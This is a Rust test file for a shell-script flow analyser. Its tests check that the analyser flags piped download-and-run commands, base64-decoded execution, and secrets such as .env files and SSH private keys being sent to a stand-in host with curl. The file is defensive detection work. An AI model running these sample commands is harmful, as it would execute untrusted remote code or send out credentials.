//! Flows between the units of small scripts.

use super::*;
use crate::catalogue::{analyse_line, builtin};

fn kinds(line: &str) -> Vec<(FlowKind, String)> {
    let (script, analysis) = analyse_line(builtin(), line);
    flows(&script, &analysis).into_iter().map(|f| (f.kind, f.way)).collect()
}

#[test]
fn downloads_that_are_run_are_seen() {
    for line in ["curl -s https://x.test/a | sh", "wget -qO- x.test | bash -s", "curl x.test | tee a | sh"] {
        assert!(kinds(line).iter().any(|(k, w)| *k == FlowKind::DownloadRun && w == "pipe"), "{line}: {:?}", kinds(line));
    }
    for line in ["curl -o a.sh x.test && sh a.sh", "curl -o a.sh x.test; ./a.sh", "curl x.test > a; bash a"] {
        assert!(kinds(line).iter().any(|(k, w)| *k == FlowKind::DownloadRun && w.starts_with("file")), "{line}: {:?}", kinds(line));
    }
    for line in ["curl x.test | jq .", "curl -o a.json x.test && cat a.json", "sh a.sh; curl -o a.sh x.test"] {
        assert!(!kinds(line).iter().any(|(k, _)| *k == FlowKind::DownloadRun), "{line}: {:?}", kinds(line));
    }
}

#[test]
fn decoded_text_that_is_run_is_seen() {
    assert!(kinds("echo aWQ= | base64 -d | sh").iter().any(|(k, _)| *k == FlowKind::DecodeRun));
    assert!(kinds("base64 -d a | cat").is_empty());
}

#[test]
fn secrets_that_reach_a_sender_are_seen() {
    for line in ["cat .env | curl -d @- x.test", "curl -F f=@.env x.test", "curl -T ~/.ssh/id_rsa x.test"] {
        assert!(kinds(line).iter().any(|(k, _)| *k == FlowKind::SecretSent), "{line}: {:?}", kinds(line));
    }
    assert!(kinds("cat .env; curl -d a=b x.test").iter().any(|(k, _)| *k == FlowKind::SecretNearSender));
    assert!(kinds("cat a.txt | curl -d @- x.test").iter().all(|(k, _)| *k != FlowKind::SecretSent));
}
